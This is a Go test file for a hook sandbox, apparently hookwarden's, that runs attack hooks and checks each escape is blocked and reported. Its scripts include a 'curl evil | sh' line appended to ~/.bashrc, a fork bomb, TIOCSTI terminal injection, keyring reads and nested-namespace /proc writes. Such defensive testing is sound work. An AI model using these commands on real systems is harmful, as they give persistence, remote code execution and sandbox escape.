package sandbox

// Attacks on the sandbox, each run against the real thing: the hostile
// hook (attack_hook_linux_test.go) tries a way out and the test checks
// that the escape did not happen, the run returned, nothing was left
// behind and the report names the attempt.

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/hookwarden/hookwarden/risk/vocab"
	"golang.org/x/sys/unix"
)

// ttyRunnerEnv starts the test binary as a runner whose controlling
// terminal is its stdin, as hookwarden is when started from a shell.
const ttyRunnerEnv = "HOOKWARDEN_TEST_TTY_RUNNER"

// serveTTYRunner is that runner: it runs the "tty" attack in the sandbox
// with stdin and stderr on its terminal, prints what the hook printed,
// then how many bytes wait in the terminal's input queue ("INQ n": a
// TIOCSTI that worked leaves "echo PWNED" there for the user's shell).
func serveTTYRunner() {
	if os.Getenv(ttyRunnerEnv) != "1" {
		return
	}
	home := os.Getenv("HOOKWARDEN_TEST_HOME")
	self, _ := os.Executable()
	outR, outW, _ := os.Pipe()
	p, err := Start(Config{Init: self, Isolate: true, Home: home, Project: home, TempDir: os.Getenv("HOOKWARDEN_TEST_SCRATCH")},
		Spec{Path: "/proc/self/exe", Argv: []string{"hook", attackArg, "tty"}, Env: testEnv(home), Dir: home,
			Stdin: os.Stdin, Stdout: outW, Stderr: os.Stderr})
	outW.Close()
	if err != nil {
		fmt.Println("START-FAILED", err)
		os.Exit(1)
	}
	out, _ := io.ReadAll(outR)
	_, _ = p.Wait()
	r := p.Close()
	os.Stdout.Write(out)
	n, err := unix.IoctlGetInt(0, unix.TIOCINQ)
	fmt.Printf("INQ %d %v\n", n, err)
	if r != nil {
		for _, note := range r.Notes {
			fmt.Println("note", note)
		}
		for _, d := range r.Devices {
			fmt.Println("device", d.What, d.Path, d.Level)
		}
	}
	os.Exit(0)
}

// openPTY returns a new pseudo-terminal's master and slave.
func openPTY(t *testing.T) (*os.File, *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	s, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	return m, s
}

// TestSandboxHookHasNoTerminal: started from a shell, hookwarden has a
// controlling terminal; a sandboxed hook must not reach it (TIOCSTI into
// the user's shell, escape codes drawn over the report), get a terminal
// as stdin/stdout/stderr, or inherit a descriptor beyond 0-2.
func TestSandboxHookHasNoTerminal(t *testing.T) {
	sandboxOrSkip(t)
	master, slave := openPTY(t)
	defer master.Close()
	drawn := &bytes.Buffer{}
	var mu sync.Mutex
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		buf := make([]byte, 4096)
		for {
			n, err := master.Read(buf)
			mu.Lock()
			drawn.Write(buf[:n])
			mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	home := t.TempDir()
	scratch := t.TempDir()
	self, _ := os.Executable()
	ctx, cancel := context.WithTimeout(context.Background(), runCap)
	defer cancel()
	cmd := exec.CommandContext(ctx, self)
	cmd.Env = []string{ttyRunnerEnv + "=1", "HOOKWARDEN_TEST_HOME=" + home, "HOOKWARDEN_TEST_SCRATCH=" + scratch, "PATH=/usr/bin:/bin"}
	cmd.Stdin, cmd.Stderr = slave, slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	out, err := cmd.Output()
	slave.Close()
	if err != nil {
		t.Fatalf("runner: %v\n%s", err, out)
	}
	t.Logf("hook and runner said:\n%s", out)
	for _, l := range strings.Split(string(out), "\n") {
		f := strings.Fields(l)
		switch {
		case len(f) == 0:
		case f[0] == "INQ":
			if f[1] != "0" {
				t.Errorf("keystrokes wait in the user's terminal: %s", l)
			}
		case f[0] == "START-FAILED":
			t.Fatalf("%s", l)
		case strings.ToUpper(f[0]) == f[0]:
			t.Errorf("the hook reached a terminal: %s", l)
		}
	}
	if !strings.Contains(string(out), "ok TIOCSTI filtered") {
		t.Errorf("TIOCSTI is not filtered")
	}
	if !strings.Contains(string(out), "device TIOCSTI") || !strings.Contains(string(out), "critical") {
		t.Errorf("the report does not name the TIOCSTI attempt as critical")
	}
	if !strings.Contains(string(out), "INQ") {
		t.Errorf("the runner did not finish")
	}
	mu.Lock()
	if bytes.Contains(drawn.Bytes(), []byte("fake clean report")) {
		t.Errorf("the hook drew on the user's terminal: %q", drawn.String())
	}
	mu.Unlock()
	if ents, _ := os.ReadDir(scratch); len(ents) != 0 {
		t.Errorf("scratch left behind: %v", ents)
	}
}

// TestSandboxDevHasOnlyHarmlessNodes: /dev holds null, zero, full, random
// and urandom and nothing a hook could write raw blocks or escape codes
// to (as root, the host's block devices and terminals are writable).
func TestSandboxDevHasOnlyHarmlessNodes(t *testing.T) {
	sandboxOrSkip(t)
	if os.Getuid() != 0 {
		t.Log("not root: the host's block devices are not writable anyway; checking what /dev lists")
	}
	home := t.TempDir()
	r := runAttack(t, Config{Isolate: true, Home: home, Project: home}, home, testEnv(home), "dev")
	t.Logf("hook said:\n%s%s", r.stdout, r.stderr)
	allowed := map[string]bool{"null": true, "zero": true, "full": true, "random": true, "urandom": true,
		"fd": true, "stdin": true, "stdout": true, "stderr": true, "shm": true}
	for _, l := range strings.Split(r.stdout, "\n") {
		if name, ok := strings.CutPrefix(l, "entry "); ok && !allowed[name] {
			t.Errorf("/dev/%s is visible in the sandbox", name)
		}
		if strings.Contains(l, "-OPENED") {
			t.Errorf("the hook opened a device for writing: %s", l)
		}
	}
	for _, want := range []string{"ok /dev/null", "ok /dev/urandom"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("%q missing: the harmless nodes must work", want)
		}
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	levels := map[string]vocab.Level{}
	for _, d := range r.report.Devices {
		levels[d.Path] = d.Level
	}
	for p, want := range map[string]vocab.Level{"/dev/sda": vocab.LevelCritical, "/dev/loop0": vocab.LevelCritical,
		"/dev/kmsg": vocab.LevelCritical, "/dev/pts/0": vocab.LevelReview, "/dev/tty": vocab.LevelNone} {
		if got, ok := levels[p]; !ok || got != want {
			t.Errorf("the report names %s at %v (recorded: %v), want %v", p, got, ok, want)
		}
	}
	if _, ok := levels["/dev/null"]; ok {
		t.Errorf("/dev/null is reported: %+v", r.report.Devices)
	}
}

// hostUnixService listens like a host service: a stream socket and a
// datagram socket at paths, and what reached them.
type hostUnixService struct {
	mu  sync.Mutex
	got []string
	wg  sync.WaitGroup
	ls  []net.Listener
	pcs []net.PacketConn
}

func (h *hostUnixService) record(s string) {
	h.mu.Lock()
	h.got = append(h.got, s)
	h.mu.Unlock()
}

func (h *hostUnixService) listen(t *testing.T, addr string) {
	t.Helper()
	l, err := net.Listen("unix", addr)
	if err != nil {
		t.Fatal(err)
	}
	h.ls = append(h.ls, l)
	h.wg.Add(1)
	go func() {
		defer h.wg.Done()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			b, _ := io.ReadAll(io.LimitReader(c, 64))
			c.Close()
			h.record(addr + " <- " + string(b))
		}
	}()
}

func (h *hostUnixService) listenDgram(t *testing.T, addr string) {
	t.Helper()
	pc, err := net.ListenPacket("unixgram", addr)
	if err != nil {
		t.Fatal(err)
	}
	h.pcs = append(h.pcs, pc)
	h.wg.Add(1)
	go func() {
		defer h.wg.Done()
		buf := make([]byte, 64)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			h.record(addr + " <- " + string(buf[:n]))
		}
	}()
}

func (h *hostUnixService) close() []string {
	for _, l := range h.ls {
		l.Close()
	}
	for _, pc := range h.pcs {
		pc.Close()
	}
	h.wg.Wait()
	return h.got
}

// TestSandboxHostUnixSocketsUnreachable: a host service listening on a
// Unix socket (under the home, under /run, abstract) is out of reach of
// the hook, by connect, sendto and sendmsg, also with a path another
// thread switches under the check; the hook's own sockets work; the
// report names the attempts.
func TestSandboxHostUnixSocketsUnreachable(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	svc := &hostUnixService{}
	homeSock := filepath.Join(home, ".agent", "agent.sock")
	homeDgram := filepath.Join(home, ".agent", "log.sock")
	os.MkdirAll(filepath.Dir(homeSock), 0o700)
	svc.listen(t, homeSock)
	svc.listenDgram(t, homeDgram)
	targets := []string{homeSock, homeDgram}
	raceTarget := homeSock
	if dir, err := os.MkdirTemp("/run", "hookwarden-test-"); err == nil {
		defer os.RemoveAll(dir)
		runSock, runDgram := filepath.Join(dir, "bus"), filepath.Join(dir, "log")
		svc.listen(t, runSock)
		svc.listenDgram(t, runDgram)
		targets = append(targets, runSock, runDgram)
		raceTarget = runSock
	} else {
		t.Logf("no socket under /run (%v): the home's stands for it", err)
	}
	abstract := fmt.Sprintf("@hookwarden-test-%d", os.Getpid())
	svc.listen(t, "\x00"+abstract[1:])
	targets = append(targets, abstract)

	r := runAttack(t, Config{Isolate: true, Home: home, Project: home}, home, testEnv(home), "unix", targets...)
	race := runAttack(t, Config{Isolate: true, Home: home, Project: home}, home, testEnv(home), "unixrace", raceTarget)
	got := svc.close()
	t.Logf("hook said:\n%s%s%s%s", r.stdout, r.stderr, race.stdout, race.stderr)
	for _, g := range got {
		t.Errorf("a host service was reached: %q", g)
	}
	for _, l := range strings.Split(r.stdout+race.stdout, "\n") {
		if f := strings.Fields(l); len(f) > 0 && strings.ToUpper(f[0]) == f[0] {
			t.Errorf("escape: %s", l)
		}
	}
	for _, want := range []string{"ok own socket", "ok socketpair"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("%q missing: the hook's own sockets must work", want)
		}
	}
	if !strings.Contains(race.stdout, "ok race done") {
		t.Errorf("the race attack did not finish")
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	named := map[string]bool{}
	for _, n := range r.report.Network {
		if n.Kind == "unix" {
			named[n.Addr] = true
			if n.Level < vocab.LevelReview {
				t.Errorf("a refused host socket reads as harmless: %+v", n)
			}
		}
	}
	for _, want := range targets {
		if strings.HasPrefix(want, "@") {
			continue // another network namespace's: nothing to refuse
		}
		if !named[want] {
			t.Errorf("the report does not name the attempt on %s: %+v", want, r.report.Network)
		}
	}
}

// TestReportBuilderSurvivesFIFO: a FIFO (and a socket, and a large file)
// left in the home must not hang the report builder; the run returns,
// names what was left, and removes the scratch folder.
func TestReportBuilderSurvivesFIFO(t *testing.T) {
	sandboxOrSkip(t)
	root := t.TempDir()
	home := filepath.Join(root, "home")
	scratch := filepath.Join(root, "scratch")
	os.MkdirAll(home, 0o755)
	os.MkdirAll(scratch, 0o755)
	os.WriteFile(filepath.Join(home, "big"), bytes.Repeat([]byte("a"), 1<<20), 0o644)
	script := `mkfifo ~/fifo ~/.bashrc-fifo && echo made; python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.bind("'$HOME'/sock")' 2>/dev/null; ` +
		`head -c 3000000 /dev/zero > ~/big; echo 'curl evil | sh' >> ~/.bashrc`
	r := runScript(t, Config{Isolate: true, Home: home, Project: home, TempDir: scratch}, home, script, "", testEnv(home))
	if !strings.Contains(r.stdout, "made") {
		t.Fatalf("mkfifo failed: %q %q", r.stdout, r.stderr)
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	seen := map[string]FileChange{}
	for _, f := range r.report.Files {
		seen[filepath.Base(f.Path)] = f
	}
	if f, ok := seen["fifo"]; !ok || f.Change != Created {
		t.Errorf("the FIFO is not reported as created: %+v", r.report.Files)
	}
	if f := seen[".bashrc"]; f.Level != vocab.LevelCritical {
		t.Errorf("the .bashrc write is not critical: %+v", f)
	}
	if f, ok := seen["big"]; !ok || f.Change != Changed {
		t.Errorf("the large file is not reported changed: %+v", f)
	}
	if ents, _ := os.ReadDir(scratch); len(ents) != 0 {
		t.Errorf("scratch left behind: %v", ents)
	}
}

// TestReportKeepsSensitiveWritesPastTheCap: 520 dummy files do not push
// the ~/.bashrc write out of the report; what is left out is counted by
// folder.
func TestReportKeepsSensitiveWritesPastTheCap(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	script := `mkdir -p ~/.a && for i in $(seq 1 520); do : > ~/.a/f$i; done; echo 'curl evil | sh' >> ~/.bashrc`
	r := runScript(t, Config{Isolate: true, Home: home, Project: filepath.Join(home, "proj")}, home, script, "", testEnv(home))
	if r.report == nil {
		t.Fatal("no report")
	}
	found := false
	for _, f := range r.report.Files {
		if f.Path == filepath.Join(home, ".bashrc") && f.Level == vocab.LevelCritical {
			found = true
		}
	}
	if !found {
		t.Errorf("the .bashrc write was dropped from %d files", len(r.report.Files))
	}
	if r.report.Level != vocab.LevelCritical {
		t.Errorf("report level %v", r.report.Level)
	}
	counted := false
	for _, l := range r.report.Lines() {
		if strings.Contains(l.Text, "and 517 more files under ~/.a") {
			counted = true
			t.Logf("count line: %s", l.Text)
		}
	}
	if !counted {
		t.Errorf("no count of the files left out under ~/.a: notes %q", r.report.Notes)
	}
	if len(r.report.Files) > maxFiles {
		t.Errorf("%d files listed, cap %d", len(r.report.Files), maxFiles)
	}
}

// TestSandboxContainsProcesses: a (bounded) fork bomb gets no more than
// the process limit, the run returns, nothing is left running, and the
// report says the limit was hit.
func TestSandboxContainsProcesses(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	cfg := Config{Isolate: true, Home: home, Project: home, Limits: Limits{Processes: 40}}
	r := runAttack(t, cfg, home, testEnv(home), "procs", "300")
	t.Logf("hook said: %s%s", r.stdout, r.stderr)
	var started, failed int
	if _, err := fmt.Sscanf(strings.TrimSpace(r.stdout), "STARTED %d FAILED %d", &started, &failed); err != nil {
		t.Fatalf("hook output %q: %v", r.stdout, err)
	}
	if os.Getuid() == 0 && !cgroupBound(r.report, "pids") {
		t.Skip("root without a writable cgroup: RLIMIT_NPROC does not bind root, and nothing else bounds the processes here")
	}
	if started >= 40 || failed == 0 {
		t.Errorf("the process limit did not hold: %d started, %d refused", started, failed)
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	limitReported(t, r.report, "pids", "process limit")
}

// TestSandboxContainsMemory: a memory hog does not get past the memory
// limit, and the report says so.
func TestSandboxContainsMemory(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	cfg := Config{Isolate: true, Home: home, Project: home, Limits: Limits{Memory: 96 << 20}}
	r := runAttack(t, cfg, home, testEnv(home), "memory", "400")
	t.Logf("hook said: %s (exit %+v)", r.stdout, r.exit)
	if strings.Contains(r.stdout, "ALLOCATED") || strings.Contains(r.stdout, "ALLOC 112") {
		t.Errorf("the memory limit did not hold: %s", r.stdout)
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	limitReported(t, r.report, "memory", "memory limit")
}

// limitReported checks the report's line for a hit limit; where an rlimit
// bound the resource (no cgroup to read a hit from), it says so instead.
func limitReported(t *testing.T, r *Report, resource, what string) {
	t.Helper()
	for _, l := range r.Limits {
		t.Logf("limit: %+v", l)
		if l.Resource == resource && !strings.HasPrefix(l.By, "cgroup") {
			t.Logf("no cgroup here (%s): a hit is not recorded", l.By)
			return
		}
	}
	if !reportSays(r, what) {
		t.Errorf("the report does not say the %s was hit: %+v", what, r.Limits)
	}
	if r.Level < vocab.LevelReview {
		t.Errorf("a hook that hit the %s reads as %v", what, r.Level)
	}
}

func reportSays(r *Report, what string) bool {
	for _, l := range r.Lines() {
		if strings.Contains(l.Text, what) {
			return true
		}
	}
	return false
}

func cgroupBound(r *Report, resource string) bool {
	if r == nil {
		return false
	}
	for _, l := range r.Limits {
		if l.Resource == resource {
			return strings.HasPrefix(l.By, "cgroup")
		}
	}
	return false
}

// TestSandboxBoundsCPU: a hook that spins on four threads gets no more
// CPU time than its quota allows. The bound is checked on what the kernel
// counted, not on a clock: the hook's process used (its own rusage, every
// thread) at most the quota (0.2 CPU: 20 ms in each 100 ms period) once
// per enforcement period the kernel counted for its cgroup (cpu.stat
// nr_periods) and once more, with a tick's overrun per CPU. A loaded
// machine only gives the hook less CPU, so it cannot fail this; without
// the quota the kernel counts no period and the 300 ms spun are over the
// slack alone. (Until issue 28 the test asked for the quota to have been
// hit, nr_throttled > 0: a hook starved below 0.2 CPU by a busy machine
// is never throttled, and the report rightly said it stayed under.)
func TestSandboxBoundsCPU(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	const cpus, threads = 0.2, 4
	cfg := Config{Isolate: true, Home: home, Project: home, Limits: Limits{CPUs: cpus}}
	r := runAttack(t, cfg, home, testEnv(home), "cpu", "300", strconv.Itoa(threads))
	t.Logf("hook said: %s%s", r.stdout, r.stderr)
	var usedMs int64
	if _, err := fmt.Sscanf(r.stdout, "SPUN %d ms", &usedMs); err != nil {
		t.Fatalf("the hook did not finish: %q", r.stdout)
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	var hit *LimitHit
	for i, l := range r.report.Limits {
		if l.Resource == "cpu" {
			hit = &r.report.Limits[i]
		}
	}
	if hit == nil {
		t.Fatalf("the report has no CPU limit: %+v", r.report.Limits)
	}
	if !cgroupBound(r.report, "cpu") {
		t.Log("no cgroup bounds the CPU here (a lower priority and RLIMIT_CPU do): a reached limit is not recorded")
		return
	}
	quota := time.Duration(cpus * float64(cpuPeriodUs) * float64(time.Microsecond))
	slack := quota + time.Duration(runtime.NumCPU())*10*time.Millisecond
	allowed := time.Duration(hit.periods+1)*quota + slack
	used := time.Duration(usedMs) * time.Millisecond
	t.Logf("used %v of CPU on %d threads in %d periods of the quota (%v each): at most %v allowed; throttled: %v (%s)",
		used, threads, hit.periods, quota, allowed, hit.Hit, hit.Summary)
	if used > allowed {
		t.Errorf("the CPU bound did not hold: the hook used %v of CPU in %d periods of %v (at most %v)", used, hit.periods, quota, allowed)
	}
	if hit.Hit && !reportSays(r.report, "CPU limit") {
		t.Errorf("the hook was throttled, and the report does not say the CPU limit was reached: %+v", r.report.Limits)
	}
}

// TestReportKeepsRiskyProgramsPastTheCap: 600 harmless programs do not
// push the curl after them out of the records.
func TestReportKeepsRiskyProgramsPastTheCap(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	script := `for i in $(seq 1 600); do /bin/true; done; curl -s --max-time 5 -o /dev/null http://example.invalid/ ; true`
	r := runScript(t, Config{Isolate: true, Home: home, Project: home}, home, script, "", testEnv(home))
	if r.report == nil {
		t.Fatal("no report")
	}
	found := false
	for _, p := range r.report.Programs {
		if filepath.Base(p.Path) == "curl" && p.Level >= vocab.LevelReview {
			found = true
		}
	}
	if !found {
		t.Errorf("curl was dropped behind the cap (%d programs, notes %q)", len(r.report.Programs), r.report.Notes)
	}
}

// TestSandboxSecretFIFODoesNotStallTheRecorder: a FIFO named like a
// secret, opened by the hook, must not block the supervisor that reads
// the secrets the hook opens (it would then answer no further call).
func TestSandboxSecretFIFODoesNotStallTheRecorder(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	script := `mkfifo ~/.env && timeout 2 cat ~/.env; /bin/echo after`
	r := runScript(t, Config{Isolate: true, Home: home, Project: home}, home, script, "", testEnv(home))
	if !strings.Contains(r.stdout, "after") {
		t.Errorf("the hook stalled after opening the FIFO: %q %q", r.stdout, r.stderr)
	}
}

// TestSandboxRefusesSocketFamiliesPastTheNetwork: a network namespace
// holds IPv4, IPv6, Unix and netlink sockets; AF_VSOCK reaches the
// hypervisor's host past it (this machine is a VM with vsock), and other
// families go below it. The hook gets none of them, and the report names
// the attempt.
func TestSandboxRefusesSocketFamiliesPastTheNetwork(t *testing.T) {
	sandboxOrSkip(t)
	home := t.TempDir()
	r := runAttack(t, Config{Isolate: true, Home: home, Project: home}, home, testEnv(home), "families")
	t.Logf("hook said:\n%s%s", r.stdout, r.stderr)
	for _, l := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(l, "SOCKET") {
			t.Errorf("escape: %s", l)
		}
	}
	for _, want := range []string{"ok socketpair", "ok netlink"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("%q missing", want)
		}
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	named := false
	for _, n := range r.report.Network {
		if n.Kind == "socket" && n.Addr == "AF_VSOCK" && n.Level >= vocab.LevelReview {
			named = true
		}
	}
	if !named {
		t.Errorf("the report does not name the AF_VSOCK attempt: %+v", r.report.Network)
	}
}

// TestSandboxKeepsTheKeyringAway: a key in the runner's session keyring
// (a token an agent or a tool stored there) must not be readable from
// the sandbox, and the report names the attempt.
func TestSandboxKeepsTheKeyringAway(t *testing.T) {
	sandboxOrSkip(t)
	// a session keyring of this test process's own, not the user's shared
	// one
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if _, err := unix.KeyctlJoinSessionKeyring("hookwarden-test"); err != nil {
		t.Skipf("no kernel keyrings here: %v", err)
	}
	name := fmt.Sprintf("hookwarden-test-%d", os.Getpid())
	id, err := unix.AddKey("user", name, []byte("s3cret-token"), unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		t.Skipf("cannot add a key: %v", err)
	}
	defer unix.KeyctlInt(unix.KEYCTL_UNLINK, id, unix.KEY_SPEC_SESSION_KEYRING, 0, 0)
	home := t.TempDir()
	r := runAttack(t, Config{Isolate: true, Home: home, Project: home}, home, testEnv(home), "keys", name)
	t.Logf("hook said: %s%s", r.stdout, r.stderr)
	if strings.Contains(r.stdout, "s3cret-token") {
		t.Errorf("the hook read the runner's key: %s", r.stdout)
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	named := false
	for _, s := range r.report.Secrets {
		if strings.Contains(s.Path, "keyring") && s.Level >= vocab.LevelReview {
			named = true
		}
	}
	if !named {
		t.Errorf("the report does not name the keyring attempt: %+v", r.report.Secrets)
	}
}

// TestSandboxProcIsReadOnly: run as root, the hook is uid 0 of the host
// mapped into its namespace, and the kernel lets uid 0 write global
// sysctls whatever the namespace (kernel.core_pattern, kernel.modprobe:
// the host's root runs what they name) and trigger sysrq. /proc is
// read-only in the sandbox.
func TestSandboxProcIsReadOnly(t *testing.T) {
	sandboxOrSkip(t)
	if os.Getuid() != 0 {
		t.Log("not root: the kernel refuses global sysctls to other users anyway; checking that /proc refuses them too")
	}
	home := t.TempDir()
	r := runAttack(t, Config{Isolate: true, Home: home, Project: home}, home, testEnv(home), "proc")
	t.Logf("hook said: %s%s", r.stdout, r.stderr)
	for _, l := range strings.Split(r.stdout, "\n") {
		if f := strings.Fields(l); len(f) > 0 && strings.ToUpper(f[0]) == f[0] {
			t.Errorf("escape: %s", l)
		}
	}
	if !strings.Contains(r.stdout, "ok stdout through /proc") {
		t.Errorf("writing to /dev/stdout no longer works")
	}
	// the same from namespaces of the hook's own, with a fresh /proc
	nested := `command -v unshare >/dev/null || exit 0
w='v=$(cat /proc/sys/kernel/printk_ratelimit); echo "$v" > /proc/sys/kernel/printk_ratelimit && echo WROTE'
unshare -rmpf --mount-proc sh -c "$w"; unshare -mpf --mount-proc sh -c "$w"
unshare -Umpf sh -c "mount -t proc proc /proc && echo MOUNTED; $w"; true`
	n := runScript(t, Config{Isolate: true, Home: home, Project: home}, home, nested, "", testEnv(home))
	t.Logf("nested: %s%s", n.stdout, n.stderr)
	if strings.Contains(n.stdout, "WROTE") || strings.Contains(n.stdout, "MOUNTED") {
		t.Errorf("escape from a nested namespace: %s", n.stdout)
	}
}

// TestSandboxHostFIFOUnreachable: a FIFO on the read-only rest (a host
// service's control FIFO under /run) opens for writing on a read-only
// mount; the hook must not reach it, and the report names the attempt.
// A FIFO under the home is seen through the overlay and reaches nothing.
func TestSandboxHostFIFOUnreachable(t *testing.T) {
	sandboxOrSkip(t)
	dir, err := os.MkdirTemp("/run", "hookwarden-test-")
	if err != nil {
		// every other folder a test may write is under /tmp, which is
		// private in the sandbox
		t.Logf("no folder under /run to put a host FIFO in (%v): not checked here", err)
		return
	}
	defer os.RemoveAll(dir)
	fifo := filepath.Join(dir, "ctl")
	if err := syscall.Mkfifo(fifo, 0o666); err != nil {
		t.Fatal(err)
	}
	// the host service: open read-write so the hook's open never waits
	f, err := os.OpenFile(fifo, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	script := `timeout 5 sh -c 'echo PWNED > ` + fifo + `' && echo WROTE`
	r := runScript(t, Config{Isolate: true, Home: home, Project: home}, home, script, "", testEnv(home))
	t.Logf("hook said: %s%s", r.stdout, r.stderr)
	// what reached the service: non-blocking read of whatever is there
	fd := int(f.Fd()) // (Fd makes the file blocking: take it once)
	_ = syscall.SetNonblock(fd, true)
	buf := make([]byte, 64)
	n, _ := syscall.Read(fd, buf)
	f.Close()
	if n > 0 || strings.Contains(r.stdout, "WROTE") {
		t.Errorf("the host FIFO got %q (hook: %q)", buf[:max(n, 0)], r.stdout)
	}
	if r.report == nil {
		t.Fatal("no report")
	}
	named := false
	for _, d := range r.report.Devices {
		if d.Path == fifo && d.What == "write" && d.Level >= vocab.LevelReview {
			named = true
		}
	}
	if !named && landlockABI() > 0 {
		t.Errorf("the report does not name the attempt: %+v", r.report.Devices)
	}
}
